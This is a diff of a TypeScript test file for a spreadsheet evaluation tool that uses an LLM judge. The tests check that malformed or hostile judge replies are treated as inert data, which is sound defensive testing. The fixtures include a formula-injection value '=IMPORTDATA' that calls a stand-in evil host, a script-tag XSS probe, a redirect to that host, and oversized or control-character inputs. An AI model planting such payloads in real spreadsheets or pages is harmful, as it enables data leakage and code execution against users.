@@ -1,12 +1,59 @@
-/** Whatever a judge sends back: the row is scored or says why not, and the row next to it is scored as usual. */
+/** Replies of a judge of any quality, or of a proxy: the row is scored or says why not, and the row next to it is scored as usual. */
 import * as z from 'zod';
+import type { WireResult } from '../../local/runtime';
 import { spreadsheetOf } from '../e2e/spreadsheet';
+import { keyed, said } from '../e2e/transport';
 import { callApi } from '../support/call-api';
-import { JUDGE_REPLIES, type Sent } from './judge-replies';
 import { ofToday } from '../support/thorough';
-import { keyed } from '../e2e/transport';
 
 const KEY = 'test-judge-key-0001';
+
+/** A chat completion whose message is this. */
+const completion = (content: string): WireResult => {
+  const choices = [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content } }];
+  const usage = { prompt_tokens: 100, completion_tokens: 20, total_tokens: 120 };
+  return said(200, JSON.stringify({ id: 'c', object: 'chat.completion', model: 'm', choices, usage }));
+};
+const verdictOf = (score: number, reason = 'It says the same.'): WireResult => {
+  const agent_answer = { evidence: 'It was S. Dakota', reason, answer_type: 'text', score };
+  return completion(JSON.stringify({ agent_answer }));
+};
+const FORM = /^the judge gave no usable verdict: the reply does not have the form that was asked for$/;
+
+/**
+ * The reply; the row's verdict; its error, or the reason of its score; how often the judge is asked: a pass is asked for twice, as the
+ * answer lacks the expected words. One of each kind: test/judge/reply.test.ts and providers.test.ts have the details.
+ */
+const REPLIES: readonly (readonly [
+  what: string,
+  sent: WireResult,
+  verdict: 'pass' | 'fail' | 'error' | 'undecided',
+  says: RegExp,
+  asked?: number,
+])[] = [
+  ['a verdict of 0', verdictOf(0, 'It says something else.'), 'fail', /something else/],
+  ['no JSON', completion('The answer is right.'), 'error', FORM, 2],
+  ['JSON of 20,000 levels', completion(`${'['.repeat(20_000)}${']'.repeat(20_000)}`), 'error', FORM, 2],
+  [
+    'a page with 200',
+    said(200, '<!DOCTYPE html><html><body>Please log in</body></html>'),
+    'error',
+    /^the judge’s reply is not JSON \(after 3 attempts\)$/,
+    3,
+  ],
+  ['a redirect', said(302, '', { Location: 'https://evil.example/' }), 'error', /^the judge answered 302$/],
+  [
+    'HTTP 404',
+    said(404, '{"error":{"message":"no such model","type":"error","code":null}}'),
+    'undecided',
+    /^not asked: api\.openai\.com has no model m at this address \(404\); hint: /,
+  ],
+  ['a formula for a reason', verdictOf(1, '=IMPORTDATA("https://evil.example")'), 'pass', /^=IMPORTDATA/],
+  ['a script for a reason', verdictOf(1, '<script>alert(1)</script>'), 'pass', /<script>/],
+  ['a reason of 100,000 characters', verdictOf(1, 'a'.repeat(100_000)), 'pass', /^a{100}/],
+  ['control characters in a reason', verdictOf(1, 'a\u0000b\u001b[31mc\u202ed'), 'pass', /./],
+];
+
 const Scorecards = z.object({
   value: z.object({
     scorecards: z.array(
@@ -19,8 +66,8 @@ const Scorecards = z.object({
   }),
 });
 
-/** A run over two rows, the first of which needs a judge, which sends these replies. */
-function runWith(sent: readonly Sent[]) {
+/** A run over two rows, the first of which needs a judge, which always sends this. */
+function runWith(sent: WireResult) {
   let asked = 0;
   const sheet = spreadsheetOf(
     {
@@ -33,11 +80,8 @@ function runWith(sent: readonly Sent[]) {
     {
       transport: (requests) =>
         requests.map(() => {
-          const one = sent[Math.min(asked, sent.length - 1)] ?? { failure: 'nothing' };
           asked += 1;
-          if ('failure' in one) return one;
-          const { status, headers = {}, body } = one;
-          return { status, headers: Object.entries(headers), body: Buffer.from(body) };
+          return sent;
         }),
       properties: keyed(),
     },
@@ -52,14 +96,14 @@ function runWith(sent: readonly Sent[]) {
   return { sheet, rows: value.scorecards, asked };
 }
 
-it.each(ofToday(JUDGE_REPLIES, 4).map((reply) => [reply.what, reply] as const))(
+it.each(ofToday(REPLIES, 4))(
   'A judge that sends back %s',
-  (_what, reply) => {
-    const { sheet, rows, asked } = runWith(reply.sent);
+  (_what, sent, verdict, says, requests = verdict === 'pass' ? 2 : 1) => {
+    const { sheet, rows, asked } = runWith(sent);
     const [judged, byRule] = rows;
-    expect(judged?.verdict).toBe(reply.verdict);
-    expect(judged?.error ?? judged?.checks.agent_answer.reason).toMatch(reply.says);
-    expect(asked).toBe(reply.asked);
+    expect(judged?.verdict).toBe(verdict);
+    expect(judged?.error ?? judged?.checks.agent_answer.reason).toMatch(says);
+    expect(asked).toBe(requests);
     expect([byRule?.verdict, byRule?.error]).toEqual(['pass', null]);
     // What it said is data: no formula but the links of rows, no key, and the eval set as it was.
     const cells = sheet.runtime.workbook.tabs.flatMap(({ grid }) => [...grid.cells()]);
@@ -72,80 +116,3 @@ it.each(ofToday(JUDGE_REPLIES, 4).map((reply) => [reply.what, reply] as const))(
     expect(sheet.row('GOLD', 2)['query']).toBe('Which state?');
   },
 );
-
-describe('Replies that went to the wrong row', () => {
-  const TEXTS = { warm: 'It was W. Dakota.', a: 'It was S. Dakota.', b: 'It was N. Dakota.' } as const;
-  type Row = keyof typeof TEXTS;
-  const rowOf = (body: string): Row =>
-    body.includes('state a?') ? 'a' : body.includes('state b?') ? 'b' : 'warm';
-  const other = (row: Row): Row => (({ warm: 'warm', a: 'b', b: 'a' }) as const)[row];
-  // Words that stand in all of them.
-  const partsFor = (row: Row) => [
-    {
-      ...{ part: 'agent_answer', evidence: 'It was', reason: `Read as ${row}.`, answer_type: 'text' },
-      ...{ score: row === 'b' ? 0 : 1, sure: true },
-    },
-  ];
-
-  type Codes = ReadonlyMap<Row, string>;
-  const replyFor = (row: Row, codes: Codes) => ({ case: codes.get(row), parts: partsFor(row) });
-
-  /** Verdicts of a and b. @param reply to the n-th request about a row */
-  function verdicts(reply: (row: Row, nth: number, codes: Codes) => object): unknown[] {
-    const asked = new Map<Row, number>();
-    const codes = new Map<Row, string>();
-    const rows = Object.entries(TEXTS).map(([id, text]) => [id, `Which state ${id}?`, 'South Dakota', text]);
-    const sheet = spreadsheetOf(
-      { GOLD: [['test_id', 'query', 'expected_answer', 'actual_agent_answer'], ...rows] },
-      {
-        transport: (requests) => {
-          const texts = requests.map(({ body }) => Buffer.from(body ?? []).toString());
-          for (const text of texts) codes.set(rowOf(text), /Case (k\w+)/.exec(text)?.[1] ?? '');
-          return texts.map((text) => {
-            const row = rowOf(text);
-            asked.set(row, (asked.get(row) ?? 0) + 1);
-            const content = JSON.stringify(reply(row, asked.get(row) ?? 0, codes));
-            const choices = [{ finish_reason: 'stop', message: { content } }];
-            return { status: 200, headers: [], body: Buffer.from(JSON.stringify({ choices })) };
-          });
-        },
-        properties: keyed(),
-      },
-    );
-    const set = { 'judge.provider': 'openai', 'judge.model': 'm', 'judge.useRules': 'false' };
-    callApi(sheet.runtime, 'runEvals', { set: Object.entries(set) });
-    return [5, 6].map((row) => sheet.row('GOLD results', row)['verdict']);
-  }
-
-  it.each<
-    readonly [how: string, reply: (row: Row, nth: number, codes: Codes) => object, found: readonly string[]]
-  >([
-    ['never', (row, _nth, codes) => replyFor(row, codes), ['pass', 'fail']],
-    ['once', (row, nth, codes) => replyFor(nth === 1 ? other(row) : row, codes), ['pass', 'fail']],
-    ['always', (row, _nth, codes) => replyFor(other(row), codes), ['error', 'error']],
-    ['without a code', (row) => ({ parts: partsFor(row) }), ['error', 'error']],
-    [
-      'with the other’s code, by name',
-      (row, _nth, codes) => {
-        const [{ part, ...entry } = { part: '' }] = partsFor(row);
-        return { case: codes.get(other(row)), [part]: entry };
-      },
-      ['error', 'error'],
-    ],
-    [
-      'with the parts of both',
-      (row, _nth, codes) => ({ ...replyFor(row, codes), parts: [...partsFor(row), ...partsFor(other(row))] }),
-      ['error', 'error'],
-    ],
-    [
-      'under the name of another part',
-      (row, _nth, codes) => ({
-        ...replyFor(row, codes),
-        parts: partsFor(row).map((part) => ({ ...part, part: 'charts_answer' })),
-      }),
-      ['error', 'error'],
-    ],
-  ])('settle none by what another says: %s', (_how, reply, found) => {
-    expect(verdicts(reply)).toEqual(found);
-  });
-});
